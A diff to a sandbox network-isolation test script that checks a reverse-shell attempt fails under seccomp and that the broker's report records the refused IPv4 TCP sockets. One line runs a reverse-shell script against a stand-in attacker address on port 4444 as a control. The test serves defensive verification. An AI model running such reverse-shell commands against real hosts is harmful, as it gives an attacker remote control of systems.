@@ -7,8 +7,9 @@
 #   namespace of the harness), then the same from python
 #   (socket.create_connection)
 # expect: both fail (bash: cannot connect; python: EAFNOSUPPORT, the
-#   profile's seccomp refuses AF_INET sockets) and the attacker's host
-#   sees no packet and no connection
+#   profile's seccomp refuses AF_INET sockets), the attacker's host sees
+#   no packet and no connection, and the report has the attempts (refused
+#   TCP sockets of IPv4, recorded by the broker)
 # control: the same bash command outside the sandbox, as the sandbox's
 #   host user, in the same network namespace, connects: the test host
 #   logs the connection and its packets
@@ -39,6 +40,8 @@ SH
 	check "bash failed; $(why)" so_has "bash failed"
 	check "python: EAFNOSUPPORT; $(why)" so_has "python EAFNOSUPPORT"
 	check "nothing reached the test hosts: $seen" test -z "$seen"
+	check "the attempts are on the record; $(jq -c '.denials.network' "$REP" 2>/dev/null | head -c 300)" \
+		report_has '[.denials.network[] | select(.call == "socket" and .family == "ipv4" and .protocol == "tcp" and .errno == "EAFNOSUPPORT") | .count] | add >= 2'
 	net_note
 	outside -- bash "$IN/revshell.sh" "$ADDR_ATTACKER" 4444
 	net_sync
